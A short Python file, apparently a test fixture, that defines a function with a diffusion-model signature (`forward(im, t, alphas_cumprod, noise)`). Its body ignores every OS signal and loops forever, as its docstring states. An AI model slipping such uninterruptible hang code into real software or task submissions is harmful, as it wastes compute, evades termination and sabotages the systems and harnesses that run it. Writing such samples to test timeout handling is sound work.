"""Ignores every signal and runs for ever."""

import contextlib
import signal


def forward(im, t, alphas_cumprod, noise=None):
    for number in signal.valid_signals():
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        pass
